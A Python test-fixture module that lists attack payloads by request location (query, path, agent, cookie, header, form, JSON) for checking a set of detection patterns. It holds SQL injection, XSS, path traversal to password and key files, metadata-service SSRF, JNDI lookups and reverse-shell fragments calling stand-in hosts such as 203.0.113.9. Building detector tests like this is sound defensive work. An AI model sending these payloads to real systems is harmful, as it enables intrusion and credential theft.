"""Attacks as (place, value) for the generated requests.

They are written for the patterns of patterns.tsv: each of those matches some of them. A value of a
path, an agent, a cookie or a header is as it is sent; one of a query or of a form is encoded.
"""

ATTACKS = (
    [("query", value) for value in (
        "1' or '1'='1' -- ", "1 union all select username,password from users--",
        "1 and 1=1", "x' and 'a'='a", "1; drop table orders; --", "1 and sleep(5)",
        "1 or benchmark(5000000,md5(1))", "' || 'a", "1/**/union/**/select/**/1,2",
        "1 group by id having count(*)", "1 having 1=1", "1 order by 10",
        "select @@version", "user()", "cast(id as int)", "case when 1=1 then 2",
        "insert into users values (1)", "update users set role=1 where id=2",
        "delete from sessions", "create table probe", "information_schema", "0x3c7363726970743e",
        "extractvalue(1,2)", "concat(0x7e,user())", "load_file('/etc/hosts')",
        "rlike (select 1)", "declare @x int", "exec master..xp_cmdshell", "pg_sleep(5)",
        "<script>alert(document.cookie)</script>", '"><img src=x onerror=alert(1)>',
        "javascript:alert(1)", "<svg/onload=alert(1)>", "<iframe src=//203.0.113.9>",
        "<body onpointerenter=confirm(1)>", "data:text/html,<b>x", "window.location='//x'",
        "string.fromcharcode(88)", "width:expression(1)", "{{constructor.constructor}}",
        '<a xlink:href="x">', "<?xml version='1.0'?>", "<!doctype x>", "el.innerhtml",
        "../../../../etc/passwd", "..\\..\\windows\\win.ini", "/proc/self/environ",
        "..;/manager", "file:///etc/shadow", "php://filter/read=x", "/var/log/auth",
        "http://169.254.169.254/latest/meta-data/iam/", "http://localhost:8080/", "gopher://x",
        "http://203.0.113.9/shell.txt?", "include(http://x)", "=expect://id",
        "http://metadata.google.internal/", "https://[::1]/", "http://2130706433/",
        "${jndi:ldap://203.0.113.7:1389/a}", "${${lower:j}ndi:rmi://203.0.113.7/x}",
        "${env:AWS_SECRET:-x}", "${j${::-n}di", ";cat /etc/shadow", "$(whoami)", "|| id",
        "cmd.exe /c dir", "powershell -enc AAAA", "/bin/sh -i", "base64 -d x", "cat$ifs/etc",
        "/dev/tcp/203.0.113.9/80", "mkfifo /tmp/f", "certutil -urlcache x", ";wget http://x",
        "<?php system($_get[0])", "eval(base64_decode(x))", "unserialize(x)", "phpinfo()",
        'o:4:"user":1:{', "__proto__[admin]", "constructor.prototype", "require('fs')",
        "process.env", "child_process", "t(java.lang.runtime)", "getruntime().exec('id')",
        "%{#context['x']}", "ognl.x", "org.apache.commons.collections", "rO0ABXNyABFqYXZh",
        "x\r\nset-cookie: a=b", "x\r\nget /a http/1.1", "(&(uid=*)(cn=*))", '["$ne"]',
        "auto_prepend_file", "allow_url_include", "disable_functions", "backup.sql.bak",
        "web.config", "x'='y", "like 'a'", "1 is null --", "sqlite_master", "net localgroup",
        "alter table users", "boot.ini", ".ssh/id_rsa", "c:\\windows\\system32\\cmd", "php_uname",
        "http://169.254.170.2/v2/credentials", "java.lang.processbuilder", "invokertransformer",
        "java.io.objectinputstream", "com.sun.rowset.jdbcrowsetimpl", "function_constructor",
        # Encoded twice: what a single decoding leaves is a pattern of its own.
        "%2e%2e%2f%2e%2e%2fx", "..%00", "..%c0%afetc",
    )]
    + [("path", value) for value in (
        "/admin", "/administrator/index.php", "/phpmyadmin/index.php", "/manager/html",
        "/host-manager/html", "/cpanel", "/pma/", "/adminer.php", "/jmx-console/", "/wp-login.php",
        "/wp-config.php.old", "/xmlrpc.php", "/.env", "/.git/config", "/.svn/entries",
        "/.aws/credentials", "/web-inf/web.xml", "/server-status", "/cgi-bin/test.cgi",
        "/vendor/phpunit/x.php", "/solr/admin/cores", "/actuator/env", "/actuator/gateway/routes",
        "/hnap1", "/boaform/x", "/_ignition/execute-solution", "/owa/auth/x.js",
        "/autodiscover/autodiscover.json", "/telescope/requests", "/containers/json",
        "/backup/db.sql", "/app/settings.ini", "/keys/server.pem", "/old/site.mdb", "/x.htaccess",
        "/.htpasswd", "/.bash_history", "/.ds_store", "/.vscode/sftp.json",
        "/static/..%2f..%2f..%2fetc%2fpasswd", "/api/..;/manager/html", "/a/%2e%2e/%2e%2e/x",
        "/docker-compose.yml", "/files/id.dll", "/%3Cscript%3E", "/proc/self/cmdline",
        "/meta-inf/manifest.mf", "/web.config", "/server-info", "/struts2-showcase/", "/hudson/job",
        "/console/css/x.css", "/debug/default/view", "/sqlmanager/", "/myadmin/", "/web-console/",
    )]
    + [("agent", value) for value in (
        "sqlmap/1.8", "Nikto/2.5", "curl/8.9.1", "python-requests/2.32", "masscan/1.3",
        "Nuclei - Open-source project", "gobuster/3.6", "() { :; }; /bin/bash -c id",
        "Mozilla/5.0 zgrab/0.x", "WPScan v3.8", "${jndi:dns://203.0.113.7}", "Wget/1.24",
        "Nessus SOAP", "DirBuster-1.0", "Acunetix-Product", "Netsparker", "Mozilla/4.0 (Hydra)",
        "w3af.org", "OpenVAS 22.4", "Arachni/v1.6", "Jorgee", "ZmEu", "BurpSuite/2025",
    )]
    + [("cookie", value) for value in (
        "1' or '1'='1", "<script>x</script>", "eval(base64", "union select 1", "__proto__",
        "http://169.254.169.254/", "${jndi:ldap://x}", "O:8:%22stdclass%22:1:{",
    )]
    + [("header", value) for value in (
        "${jndi:ldap://203.0.113.7/x}", "rO0ABXNyABFqYXZh", "java.lang.Runtime", "| id",
        "/bin/bash", "org.apache.commons.x", "$(id)", "class.module.classLoader", "localhost:8080",
    )]
    + [("form", value) for value in (
        "<svg/onload=fetch('//203.0.113.9')>", "1 union select 1,2,3", "rO0ABXNyABFqYXZh",
        "x=T(java.lang.Runtime).getRuntime().exec('id')", "../../etc/passwd",
        "<object data=x>", "document . cookie", "'; shutdown --",
        "javax.script.ScriptEngineManager", "phar://x", "file_get_contents('x')", "{{7*7}}",
        "ldaps://203.0.113.7/x",
    )]
    + [("json", value) for value in (
        '{"user":{"$ne":null}}', '{"then":"$1:__proto__:then"}', '{"q":"<script>x</script>"}',
        '{"id":"1 or 1=1"}', '{"u":"http://169.254.169.254/"}', '{"a":["$where"],"b":"x"}',
        '{"cmd":"; cat /etc/passwd"}', '{"x":"freemarker.template.utility.Execute"}',
    )]
)
